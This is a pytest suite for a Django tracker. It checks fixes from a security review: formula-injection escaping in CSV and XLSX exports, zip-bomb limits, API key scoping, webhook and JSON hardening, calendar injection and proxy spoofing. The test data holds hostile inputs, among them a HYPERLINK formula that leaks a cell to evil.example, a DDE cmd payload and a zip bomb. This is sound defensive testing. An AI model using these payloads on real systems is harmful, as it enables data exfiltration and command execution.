"""The security review's findings (issue 19), each as the behaviour a user would notice after the fix."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests import factories
from tests.api.conftest import client_with_key
from tracker.models import Activity, ApiClient

pytestmark = pytest.mark.django_db

EVIL_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- 1. Spreadsheet formula injection -----------------------------------------------------------------------

@pytest.mark.parametrize("title", EVIL_TITLES)
def test_the_reports_csv_never_starts_a_cell_with_a_formula(title, activity, viewer):
    Activity.objects.filter(pk=activity.pk).update(title=title, location="=cmd")
    response = _signed_in(viewer).get("/reports/activities.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()[1:])))
    assert rows[0]["title"] == "'" + title
    assert rows[0]["location"] == "'=cmd"
    assert rows[0]["progress"] == "0"  # numbers are left alone


def _admin_export(admin_client, fmt: int) -> bytes:
    from tests.test_admin import HEADERS

    response = admin_client.post(reverse("admin:tracker_activity_export"), {
        "format": str(fmt), "resource": "0", **{f"activityresource_{f}": "on" for f in HEADERS}})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("title", EVIL_TITLES[:4])
def test_the_admin_exports_write_formulas_as_text(title, admin_client, activity):
    import openpyxl

    Activity.objects.filter(pk=activity.pk).update(title=title)
    sheet = tablib.Dataset().load(_admin_export(admin_client, 0).decode("utf-8-sig"), format="csv")
    assert sheet["title"] == ["'" + title]
    book = openpyxl.load_workbook(io.BytesIO(_admin_export(admin_client, 1)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no live formula anywhere
    assert "'" + title in [cell.value for cell in cells]


def test_an_exported_file_imports_back_unchanged(admin_client, activity, presidency, states):
    activity.code = "ex-1"
    activity.title = "-5 days to the summit"
    activity.save()
    exported = _admin_export(admin_client, 0)
    assert b"'-5 days" in exported
    preview = _import(admin_client, exported)
    assert not preview.context["result"].has_errors() and not preview.context["result"].has_validation_errors()
    admin_client.post(reverse("admin:tracker_activity_process_import"), preview.context["confirm_form"].initial)
    activity.refresh_from_db()
    assert activity.title == "-5 days to the summit"


@pytest.fixture
def states(db):
    return [factories.MemberStateFactory(code=c) for c in ("BY", "RU")]


# --- Admin import limits ------------------------------------------------------------------------------------

def _import(admin_client, content: bytes, name: str = "plan.csv", fmt: str = "0"):
    return admin_client.post(
        reverse("admin:tracker_activity_import"),
        {"format": fmt, "resource": "0", "import_file": SimpleUploadedFile(name, content)},
    )


def test_an_import_file_over_the_size_limit_is_refused_before_it_is_read(admin_client, settings, presidency):
    settings.IMPORT_MAX_FILE_BYTES = 2048
    response = _import(admin_client, b"code,title\n" + b"x,y\n" * 1000)
    assert response.status_code == 200
    assert "too large" in response.text and "result" not in response.context
    assert not Activity.objects.exists()


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused(admin_client, settings, presidency):
    settings.IMPORT_MAX_UNPACKED_BYTES = 100_000
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 5_000_000)  # 5 MB of zeros zip to a few KB
    assert len(bomb.getvalue()) < 20_000
    response = _import(admin_client, bomb.getvalue(), name="plan.xlsx", fmt="1")
    assert "when unpacked" in response.text and "result" not in response.context
    assert not Activity.objects.exists()


# --- 2. A body-limited key never becomes an all-body key ----------------------------------------------------

def test_a_limited_key_whose_bodies_are_cleared_writes_nothing(activity, body, other_body):
    client, key = factories.make_api_client("mod-system", ApiClient.Scope.WRITE, bodies=[body])
    api = client_with_key(key)
    url = f"/api/v1/activities/{activity.pk}/"
    assert api.patch(url, {"location": "Minsk"}, format="json").status_code == 200
    client.bodies.clear()
    response = api.patch(url, {"location": "Brest"}, format="json")
    assert response.status_code == 403
    assert response["Content-Type"].startswith("application/problem+json")
    other = factories.ActivityFactory(priority=activity.priority, responsible_body=other_body)
    assert api.patch(f"/api/v1/activities/{other.pk}/", {"location": "Brest"}, format="json").status_code == 403
    activity.refresh_from_db()
    assert activity.location == "Minsk"


def test_deleting_a_keys_only_body_leaves_it_writing_nothing(priorities, body, other_body):
    spare = factories.BodyFactory(code="by-spare")
    _client, key = factories.make_api_client("spare-system", ApiClient.Scope.WRITE, bodies=[spare])
    spare.delete()
    target = factories.ActivityFactory(priority=priorities[0], responsible_body=other_body)
    response = client_with_key(key).patch(f"/api/v1/activities/{target.pk}/", {"location": "X"}, format="json")
    assert response.status_code == 403


def test_an_all_bodies_key_is_an_explicit_flag(activity):
    client, key = factories.make_api_client("everything", ApiClient.Scope.WRITE, all_bodies=True)
    assert client_with_key(key).patch(f"/api/v1/activities/{activity.pk}/", {"location": "Minsk"},
                                      format="json").status_code == 200
    client.all_bodies = False
    client.save()
    assert client_with_key(key).patch(f"/api/v1/activities/{activity.pk}/", {"location": "Brest"},
                                      format="json").status_code == 403


def test_the_command_asks_for_bodies_or_all_bodies_for_a_write_key(db):
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match="--all-bodies"):
        call_command("create_api_client", "vague", "--scope", "write", stdout=io.StringIO(), stderr=io.StringIO())
    call_command("create_api_client", "broad", "--scope", "write", "--all-bodies", stdout=io.StringIO(),
                 stderr=io.StringIO())
    assert ApiClient.objects.get(name="broad").all_bodies


# --- 10. simple-history's revert form -----------------------------------------------------------------------

def test_posting_the_revert_form_changes_nothing_and_is_not_a_server_error(activity, outsider, coordinator):
    from tracker import services
    from tracker.permissions import Actor

    services.activity_update(actor=Actor.for_user(coordinator), activity=activity, changes={"location": "Minsk"})
    old = activity.history.order_by("history_id").first()
    url = reverse("admin:tracker_activity_simple_history", args=[activity.pk, old.history_id])
    for user in (outsider, coordinator):
        response = _signed_in(user).post(url, {"title": "Reverted", "location": ""})
        assert response.status_code == 403
    activity.refresh_from_db()
    assert (activity.title, activity.location) == ("Joint exercises in Belarus", "Minsk")
    assert _signed_in(coordinator).get(url).status_code == 200  # old versions can still be read


# --- 3. What is kept of a webhook receiver's answer ---------------------------------------------------------

@pytest.fixture
def chatty_receiver():
    """A receiver answering with a long page that holds a marker, as an internal service might."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"ok\r\n\x1b[31m" + b"x" * 5000 + b"INTERNAL-SECRET-MARKER")

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/hook", hits
    server.shutdown()
    server.server_close()


def _delivery(url: str):
    from tracker.models import OutboxEvent, WebhookDelivery, WebhookSubscription

    subscription = WebhookSubscription.objects.create(name="Receiver", url=url)
    event = OutboxEvent.objects.create(event_type="activity.updated", payload={"id": 1})
    return WebhookDelivery.objects.create(subscription=subscription, event=event)


def test_only_the_status_and_a_short_clean_excerpt_are_kept(chatty_receiver, settings):
    from tracker import webhooks

    url, hits = chatty_receiver
    delivery = _delivery(url)
    webhooks.deliver(delivery.pk)
    attempt = _attempt(delivery)
    assert attempt.status_code == 200 and hits
    assert len(attempt.response_excerpt) <= 200 and attempt.response_excerpt.startswith("ok")
    assert "INTERNAL-SECRET-MARKER" not in attempt.response_excerpt
    assert "\x1b" not in attempt.response_excerpt and "\r" not in attempt.response_excerpt


def test_nothing_is_kept_from_a_refused_target(chatty_receiver, settings):
    from tracker import webhooks

    url, hits = chatty_receiver
    delivery = _delivery(url)
    settings.WEBHOOK_ALLOWED_NETWORKS = []  # as in production: 127.0.0.1 is refused at delivery
    webhooks.deliver(delivery.pk)
    attempt = _attempt(delivery)
    assert not hits
    assert (attempt.status_code, attempt.response_excerpt) == (None, "")
    assert attempt.error.startswith("Refused target")


def _attempt(delivery):
    from tracker.models import DeliveryAttempt

    return DeliveryAttempt.objects.get(delivery=delivery)


# --- 8. Webhook ports ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("port", ["0", "99999", "65536"])
def test_a_webhook_port_outside_1_to_65535_is_a_400_naming_url(port, coordinator):
    from tracker.models import WebhookSubscription

    api = _api_for(coordinator)
    response = api.post("/api/v1/webhooks/", {"name": "X", "url": f"https://hooks.example.org:{port}/x"},
                        format="json")
    assert response.status_code == 400
    assert "url" in response.json()["errors"]
    assert not WebhookSubscription.objects.exists()


def _api_for(user):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_login(user)
    return api


# --- 6, 7. Hostile JSON -------------------------------------------------------------------------------------

@pytest.mark.parametrize("raw", [
    b"[" * 1000 + b"]" * 1000,
    b'{"items": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    b'{"\\ud800": 1}',
    b'{"title": "\\udfff"}',
])
@pytest.mark.parametrize("path", ["/api/v1/activities/", "/api/v1/activities/bulk/"])
def test_deep_nesting_and_lone_surrogates_are_malformed_json(raw, path, write_api):
    response = write_api.generic("POST", path, raw, content_type="application/json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert response.status_code == 400, response.content
    assert response.json()["code"] == "malformed_json"
    assert not Activity.objects.exists()


@pytest.fixture
def write_api(db):
    return client_with_key(factories.make_api_client("planning-system", ApiClient.Scope.WRITE)[1])


# --- 9. Control characters in references and text -----------------------------------------------------------

@pytest.mark.parametrize("source, ref, field", [
    ("a%00b", "c", "external_source"), ("mfa", "a%00b", "external_id"), ("mfa", "x%0D%0Ay", "external_id"),
])
def test_a_reference_with_a_control_character_is_a_400_naming_it(source, ref, field, write_api, priorities, body):
    url = f"/api/v1/activities/by-ref/{source}/{ref}/"
    response = write_api.put(url, {"priority": priorities[0].pk, "title": "T", "due_date": "2023-06-30",
                                   "responsible_body": body.pk}, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json()["errors"]
    assert write_api.get(url).status_code == 400
    assert not Activity.objects.exists()


@pytest.mark.parametrize("title", ["a\x00b", "line\rEND:VEVENT", "bell\x07"])
def test_titles_with_control_characters_are_refused_on_every_door(title, write_api, priorities, body, activity):
    response = write_api.patch(f"/api/v1/activities/{activity.pk}/", {"title": title}, format="json")
    assert response.status_code == 400 and "title" in response.json()["errors"]
    activity.refresh_from_db()
    assert activity.title == "Joint exercises in Belarus"


def test_the_admin_xlsx_export_survives_a_stored_nul(admin_client, activity):
    import openpyxl

    Activity.objects.filter(pk=activity.pk).update(external_id="a\x01b", external_source="mfa")
    book = openpyxl.load_workbook(io.BytesIO(_admin_export(admin_client, 1)))
    assert book.active.max_row == 2


# --- 13. No secrets in replayable answers -------------------------------------------------------------------

def test_a_webhook_secret_is_not_stored_in_the_idempotency_record(coordinator):
    from tracker.models import IdempotencyRecord, WebhookSubscription

    api = _api_for(coordinator)
    payload = {"name": "Secretariat", "url": "https://hooks.example.org/tracker"}
    first = api.post("/api/v1/webhooks/", payload, format="json", HTTP_IDEMPOTENCY_KEY="w-1")
    secret = WebhookSubscription.objects.get().secret
    assert first.status_code == 201 and first.json()["secret"] == secret
    record = IdempotencyRecord.objects.get(key="w-1")
    assert secret not in str(record.response_body) and secret not in str(record.response_headers)
    replay = api.post("/api/v1/webhooks/", payload, format="json", HTTP_IDEMPOTENCY_KEY="w-1")
    assert replay.status_code == 201 and replay["Idempotent-Replayed"] == "true"
    assert "secret" not in replay.json() and replay.json()["id"] == first.json()["id"]
    assert WebhookSubscription.objects.count() == 1


# --- 4, 5. The calendar ---------------------------------------------------------------------------------------

def test_a_carriage_return_in_a_title_cannot_inject_calendar_events(client, viewer, activity):
    Activity.objects.filter(pk=activity.pk).update(  # stored before the text rule existed
        title="Talks\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:Injected\x07", description="a\r\nb")
    body = client.get(f"/calendar/feed/{viewer.staff_profile.calendar_token}.ics").content.decode()
    body = body.replace("\r\n ", "")  # unfold long lines
    assert body.split("\r\n").count("BEGIN:VEVENT") == 1
    assert "\r" not in body.replace("\r\n", "") and "\x07" not in body
    assert "SUMMARY:Deadline: TalksEND:VEVENTBEGIN:VEVENTSUMMARY:Injected\r\n" in body


@pytest.mark.parametrize("month", ["9999-12", "1-1", "0001-01", "99999999999999999999-1", "2023-00", "２０２３-09"])
def test_a_month_out_of_range_shows_the_default_month(month, viewer, activity):
    response = _signed_in(viewer).get("/calendar/", {"month": month})
    assert response.status_code == 200
    assert "December 2023" in response.text


# --- 11. Client addresses behind the proxy --------------------------------------------------------------------

PROXY = "10.0.0.5"


def _login(client: Client, address: str, password: str, forwarded: str = ""):
    extra = {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": forwarded or address}
    return client.post("/accounts/login/", {"username": "coordinator-2", "password": password}, **extra)


def test_behind_the_proxy_one_attackers_wrong_passwords_do_not_lock_out_the_owner(settings, db):
    from django.test import override_settings

    factories.UserFactory(username="coordinator-2", password="right-password-2023")
    settings.TRUSTED_PROXY_COUNT = 1
    with override_settings(AXES_ENABLED=True):
        attacker = Client()
        for _ in range(6):
            _login(attacker, "203.0.113.66", "wrong")
        assert _login(attacker, "203.0.113.66", "right-password-2023").status_code == 429
        owner = Client()
        response = _login(owner, "198.51.100.7", "right-password-2023")
    assert response.status_code == 302 and "_auth_user_id" in owner.session


def test_a_spoofed_forwarded_for_does_not_escape_the_lockout(settings, db):
    from django.test import override_settings

    factories.UserFactory(username="coordinator-2", password="right-password-2023")
    settings.TRUSTED_PROXY_COUNT = 1
    with override_settings(AXES_ENABLED=True):
        attacker = Client()
        for n in range(6):  # the proxy appends the real address after whatever the attacker sent
            _login(attacker, "", "wrong", forwarded=f"192.0.2.{n}, 203.0.113.66")
        response = _login(attacker, "", "right-password-2023", forwarded="192.0.2.99, 203.0.113.66")
    assert response.status_code == 429


@pytest.mark.parametrize("count, trusted, remote, forwarded, expected", [
    (0, [], "10.0.0.5", "1.2.3.4", "10.0.0.5"),  # default: no proxy trusted, the header is ignored
    (1, [], "10.0.0.5", "1.2.3.4", "1.2.3.4"),
    (1, [], "10.0.0.5", "6.6.6.6, 1.2.3.4", "1.2.3.4"),  # only the entry our proxy appended counts
    (2, [], "10.0.0.5", "6.6.6.6, 1.2.3.4, 10.0.0.9", "1.2.3.4"),
    (2, [], "10.0.0.5", "1.2.3.4", "10.0.0.5"),  # fewer hops than proxies: nothing is vouched for
    (1, [], "10.0.0.5", "not-an-address", "10.0.0.5"),
    (1, ["10.0.0.0/8"], "10.0.0.5", "1.2.3.4", "1.2.3.4"),
    (1, ["10.0.0.0/8"], "198.51.100.1", "1.2.3.4", "198.51.100.1"),  # not from our proxy: header ignored
])
def test_the_client_address_follows_the_trusted_proxies(count, trusted, remote, forwarded, expected, settings, rf):
    from tracker.client_ip import client_address

    settings.TRUSTED_PROXY_COUNT, settings.TRUSTED_PROXY_IPS = count, trusted
    request = rf.get("/", REMOTE_ADDR=remote, HTTP_X_FORWARDED_FOR=forwarded)
    assert client_address(request) == expected


def test_the_anonymous_api_throttle_ignores_a_spoofed_forwarded_for(settings, db):
    from django.core.cache import cache
    from rest_framework.test import APIClient

    settings.API_THROTTLE_RATES = {"client": "", "user": "", "anon": "2/minute"}
    cache.clear()
    api = APIClient()
    answers = [api.get("/api/schema/", REMOTE_ADDR="203.0.113.66", HTTP_X_FORWARDED_FOR=f"192.0.2.{n}")
               .status_code for n in range(3)]  # the schema is public, so anonymous callers reach the throttle
    cache.clear()
    assert answers == [200, 200, 429]


# --- 12. Swagger UI keeps no key in the browser -------------------------------------------------------------

def test_swagger_ui_does_not_persist_bearer_keys(client):
    script = client.get("/api/docs/?script=").content.decode()
    assert '"persistAuthorization": false' in script


def test_the_new_refusals_read_in_russian(write_api, activity):
    response = write_api.patch(f"/api/v1/activities/{activity.pk}/", {"title": "a\x00b"}, format="json",
                               HTTP_ACCEPT_LANGUAGE="ru")
    assert response.status_code == 400
    assert "Управляющие символы" in response.json()["errors"]["title"][0]
    deep = write_api.generic("POST", "/api/v1/activities/", b"[" * 100 + b"]" * 100,
                             content_type="application/json", HTTP_ACCEPT_LANGUAGE="ru")
    assert "вложенность" in deep.json()["detail"]
